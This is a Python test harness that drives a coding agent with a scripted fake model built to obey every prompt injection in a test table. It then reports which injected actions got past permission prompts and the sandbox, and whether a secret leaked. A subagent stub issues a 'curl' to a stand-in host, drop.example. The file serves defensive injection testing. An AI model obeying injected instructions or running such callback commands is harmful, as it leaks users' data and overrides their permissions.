"""Lets a model obey every injection of injections.toml, and prints what came of it.

    python -m tests.adversarial.injection_run FOLDER MODE ANSWER [sample]

prints a JSON object. MODE is a permission mode. A sample has each deed and each place once or more.
ANSWER is what the user does when asked: `refuse`, `grants` (refuses, and had allowed much
permanently), `leave` (nobody answers, and the turn is stopped in the end), or `allow`, which is
without a sandbox too and shows that the deeds do harm. It changes nothing but FOLDER, and needs a
network of its own; see test_injections.py.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import sys
from collections.abc import Iterator, Set as AbstractSet
from pathlib import Path
from typing import Any

from acp_agent.content import HIDDEN
from tests.adversarial.injection_world import SECRET, TABLE, World, injections, mcp_server
from tests.support.agent_process import AgentProcess
from tests.support.editor import Editor, selected
from tests.support.hostile import MODEL
from tests.support.model_server import Call, ModelServer, Reply, Request, answer

Json = dict[str, Any]
INJECTIONS = injections()
AT_ONCE = 20  # deeds that are ordered at once where all are
UNCHANGED = {"locations", "path", "newText", "oldText"}  # what editors open and compare


class Model:
    """Does what the user says, and then what it reads.

    Attributes:
        obeyed: the numbers of the injections that it obeyed, in order.
        wanted: the numbers of those that it obeys.
        later: numbers that it does not obey yet.
    """

    def __init__(self, world: World, wanted: AbstractSet[int], *, one_by_one: bool) -> None:
        self.obeyed: list[int] = []
        self.wanted = frozenset(wanted)
        self.later: set[int] = set()
        self.work: list[Json] = []
        self._world, self._one_by_one = world, one_by_one

    def __call__(self, request: Request) -> Reply:
        """Answer a request."""
        if not request.json.get("tools"):
            return answer("A title")
        text = request.body.decode()
        if '"HELPER' in text or "HELPER\\n" in text:
            return self._help(request)
        if self.work:
            calls, self.work = self.work, []
            return answer(*map(_call, calls))
        ordered = dict.fromkeys(int(n) for n in re.findall(r"ORDER-(\d+)", text))
        ready = self.wanted.difference(self.obeyed, self.later)
        todo = [n for n in ordered if n in ready]
        todo = todo[:1] if self._one_by_one else todo
        self.obeyed += todo
        calls = [one for n in todo for one in self.deeds(n)]
        return answer(*map(_call, calls)) if calls else answer("Done.")

    def deeds(self, number: int) -> list[Json]:
        """The calls of an injection."""
        deed, place = INJECTIONS[number].deed, INJECTIONS[number].place["name"]
        calls: list[Json] = self._world.filled(deed["calls"], place, number)
        return calls

    def _help(self, request: Request) -> Reply:
        """Answer as the subagent: obey `DO n`, or report what a file says."""
        messages = request.json["messages"]
        last = messages[-1]
        if last["role"] == "tool":
            return answer(f"It says: {last['content']}")
        task = json.dumps(last["content"])
        if found := re.search(r"DO (\d+)", task):
            path = f"{self._world.outside}/{found[1]}"
            return answer(
                Call(
                    "shell",
                    {"command": f"touch {path}; curl -s -m 2 http://drop.example/{found[1]}"},
                ),
                Call("write", {"path": path, "content": "x"}),
                Call("web_fetch", {"url": f"http://drop.example/{found[1]}"}),
            )
        return answer(Call("read", {"path": "for-the-helper.txt"}))


def _call(call: Json) -> Call:
    ((name, arguments),) = call.items()
    return Call(name, arguments)


class User:
    """Allows what the task needs, and nothing else."""

    def __init__(self, world: World, kind: str) -> None:
        self.asked = asyncio.Event()
        self.questions = 0
        self._wanted = [
            str(world.filled(call, place["name"]))
            for place in TABLE["place"]
            for call in place["calls"]
        ]
        self.kind = kind

    async def answer(self, params: Json) -> Json:
        """Answer a question."""
        offered = {one["kind"]: one["optionId"] for one in params["options"]}
        given = params["toolCall"].get("rawInput")
        if any(str(given) in wanted for wanted in self._wanted):
            return selected(offered["allow_once"])
        self.questions += 1
        self.asked.set()
        if self.kind == "leave":
            await asyncio.Event().wait()
        wanted = "allow_once" if self.kind == "allow" else "reject_once"
        return selected(offered[wanted]) if wanted in offered else {"outcome": "cancelled"}


def sample() -> set[int]:
    """The numbers of injections that have each deed and each place."""
    by_deed = {one.deed["name"]: one.number for one in INJECTIONS}
    places = {INJECTIONS[number].place["name"] for number in by_deed.values()}
    by_place = {one.place["name"]: one.number for one in INJECTIONS}
    others = (number for place, number in by_place.items() if place not in places)
    return {*by_deed.values(), *others}


async def main(base: Path, mode: str, kind: str, share: str = "all") -> Json:
    """Run all of it."""
    world = World(base, granted=kind == "grants")
    await world.listen()
    world.build()
    before = world.files()
    async with ModelServer() as server:
        wanted = {one.number for one in INJECTIONS}
        if kind == "leave" or share == "sample":  # each question that is left open costs a turn
            wanted = sample()
        model = Model(world, wanted, one_by_one=kind == "leave")
        server.otherwise = model
        user = User(world, kind)
        editor = Editor(permission=user.answer)
        editor.well_behaved = False
        environ = server.environ("openai") | {
            "ACP_AGENT_MODE": mode,
            "ACP_AGENT_SANDBOX": "false" if kind == "allow" else "true",
            "SEARXNG_URL": f"http://127.0.0.1:{world.port}",
            "PYTHONPATH": os.environ["PYTHONPATH"],
        }
        agent = await AgentProcess.start(
            *MODEL,
            home=world.home,
            environ=environ,
            editor=editor,
            command=(sys.executable, "-m", "acp_agent"),
        )
        await agent.initialize()
        used = {one.place["name"] for one in INJECTIONS if one.number in wanted}
        places = [one for one in TABLE["place"] if one["name"] in used]
        if kind == "allow":
            places = list(control())
        for place in places:
            await _visit(agent, world, model, user, place)
        said = b"".join(agent.lines)
        await agent.stop(check=False)
    after = world.files()
    changed = [path for path in {**before, **after} if before.get(path) != after.get(path)]
    sent = b"".join(request.body for request in server.requests)
    return {
        "obeyed": len(model.obeyed),
        "not obeyed": [INJECTIONS[n].name for n in sorted(wanted.difference(model.obeyed))],
        "questions": user.questions,
        "reached": [*map(_named, world.reached)],
        "changed": [*map(_named, changed)],
        "kept secrets": list(world.kept_secrets()),
        "secret sent to the model": SECRET.encode() in sent,
        "secret shown": SECRET.encode() in said,
        "hidden": sorted({*_hidden(agent.messages)})[:20],
        "stderr": agent.stderr.decode()[-2000:],
    }


async def _visit(agent: AgentProcess, world: World, model: Model, user: User, place: Json) -> None:
    """Give the task of a place in a session of its own; repeat until the model has done all."""
    servers = [mcp_server(place, world)] if "mcp" in place else []
    session = await agent.new_session(world.project, mcpServers=servers)
    model.work = world.filled(place["calls"], place["name"])
    numbers = {n for n in model.wanted if INJECTIONS[n].place is place}
    model.later = numbers if place.get("later") else set()
    prompt: list[Any] = [place.get("task", "Look around.")]
    if "attached" in place:
        text = world.filled(place["attached"], place["name"])
        prompt.append({"type": "resource", "resource": {"uri": "file:///a.txt", "text": text}})
    done = -1
    while done < len(model.obeyed) or model.later:
        done = -1 if model.later else len(model.obeyed)
        user.asked.clear()
        request = agent.post_prompt(session, *prompt)
        waiting = asyncio.create_task(agent.answer(request))
        asked = asyncio.create_task(user.asked.wait())
        if user.kind == "leave":
            await asyncio.wait([waiting, asked], return_when="FIRST_COMPLETED")
            if not waiting.done():
                agent.cancel(session)
        await waiting
        asked.cancel()
        prompt, model.later = ["Go on."], set()
    await agent.request("session/close", {"sessionId": session})


def control() -> Iterator[Json]:
    """Places where the user orders all deeds that do harm."""
    first = {one.deed["name"]: one.number for one in reversed(INJECTIONS)}
    orders = [
        f"ORDER-{number}" for name, number in first.items() if name not in TABLE["not_in_control"]
    ]
    for at in range(0, len(orders), AT_ONCE):
        yield {"name": "the user", "calls": [], "task": " ".join(orders[at : at + AT_ONCE])}


def _named(text: str) -> str:
    """A text, with the injection whose number stands in it."""
    for number in re.findall(r"\d+", text)[::-1]:
        if int(number) < len(INJECTIONS) and re.search(rf"[/-]{number}\b", text):
            return f"{text}: {INJECTIONS[int(number)].name}"
    return text


def _hidden(value: Any) -> Iterator[str]:
    """Texts that were shown with characters that are not seen."""
    match value:
        case str():
            if found := HIDDEN.search(value):
                yield repr(value[max(0, found.start() - 60) : found.start() + 60])
        case list():
            for one in value:
                yield from _hidden(one)
        case dict():
            for name, one in value.items():
                yield from () if name in UNCHANGED else _hidden(one)
        case _:
            pass


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(Path(sys.argv[1]), *sys.argv[2:5])), indent=1))
